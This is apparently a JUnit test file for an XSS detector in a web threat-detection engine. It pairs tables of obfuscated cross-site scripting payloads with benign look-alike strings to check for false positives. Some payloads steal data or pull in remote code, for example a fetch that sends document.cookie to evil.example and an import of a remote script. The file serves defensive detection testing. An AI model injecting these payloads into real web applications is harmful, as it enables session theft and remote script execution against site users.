package ai.traceable.tme.engine.detect.xss;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

class BareScriptDetectorTest extends DetectorTableTest {
  private static final BareScriptDetector DETECTOR = new BareScriptDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.QUERY, "callback", "alert(1)", "xss-200"),
        a(Placement.QUERY, "name", "\"-confirm(document.domain)-\"", "xss-200"),
        a(Placement.QUERY, "q", "alert`1`", "xss-200"),
        a(Placement.FORM, "text", "(alert)(1)", "xss-200"),
        a(Placement.QUERY, "q", "\\u0061lert(1)", "xss-200"),
        a(Placement.QUERY, "q", "eval(atob('YWxlcnQoMSk='))", "xss-200"),
        a(Placement.QUERY, "q", "setTimeout('alert(1)')", "xss-200"),
        a(Placement.JSON, "title", "Function('ale'+'rt(1)')()", "xss-200"),
        a(Placement.QUERY, "q", "import('//evil.example/x.js')", "xss-200"),
        a(Placement.QUERY, "msg", "${alert(1)}", "xss-200"),
        a(Placement.QUERY, "q", "top['al'+'ert'](1)", "xss-210"),
        a(Placement.QUERY, "q", "self[atob('YWxlcnQ=')](1)", "xss-210"),
        a(Placement.QUERY, "q", "window[String.fromCharCode(97,108)](1)", "xss-210"),
        a(Placement.QUERY, "q", "top[/al/.source+/ert/.source](1)", "xss-210"),
        a(Placement.QUERY, "q", "document['coo'%2B'kie']", "xss-210"),
        a(Placement.QUERY, "q", "[].constructor.constructor('x')()", "xss-220"),
        a(Placement.QUERY, "q", "[1].map(alert)", "xss-220"),
        a(Placement.QUERY, "q", "Reflect.apply(alert,null,[1])", "xss-220"),
        a(Placement.FORM, "text", "a=alert,a(1)", "xss-220"),
        a(Placement.JSON, "v", "window.onerror=alert;throw 1", "xss-220"),
        a(Placement.FORM, "q", "fetch('//evil.example/?c='%2Bdocument.cookie)", "xss-220"),
        a(Placement.QUERY, "q", "x=document.createElement('script');x.src='//e/a.js'", "xss-220"),
        a(Placement.QUERY, "q", "al<b>ert(1)", "xss-230"),
        a(Placement.QUERY, "q", "con<br>firm(1)", "xss-230"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.JSON, "type", "alert"),
        b(Placement.FORM, "action", "Confirm order"),
        b(Placement.QUERY, "q", "model eval results"),
        b(Placement.JSON, "A4", "=SUM(A1:A3)"),
        b(Placement.QUERY, "sort", "top"),
        b(Placement.JSON, "text", "run `npm install` then `npm start`"),
        b(Placement.QUERY, "callback", "jQuery36001234567890_1712345678901"),
        b(Placement.JSON, "text", "f(x) = 2x + 1, so f(3) = 7"),
        b(Placement.FORM, "seat", "window seat (row 12)"),
        b(Placement.JSON, "answer", "alert, confirm and prompt are dialog functions"),
        b(Placement.JSON, "text", "please confirm (by Friday) the booking"),
        b(Placement.JSON, "text", "we import (mostly) from Spain"),
        b(Placement.QUERY, "fields[articles]", "title"),
        b(Placement.JSON, "text", "the <b>alert</b> level is high"),
        b(Placement.JSON, "html", "a=alerts,b=1"),
        b(Placement.QUERY, "prefs", "notify=alert;sound=on"),
        b(Placement.JSON, "label", "content['en'] is missing"),
        b(Placement.JSON, "text", "cookies (document.cookie) are read by the script"),
        b(Placement.JSON, "text", "use `alert` or `prompt` while debugging"),
        b(Placement.JSON, "label", "<b>Alert</b>(2 new)"),
        b(Placement.JSON, "code", "rows.map(alertRow)"));
  }
}
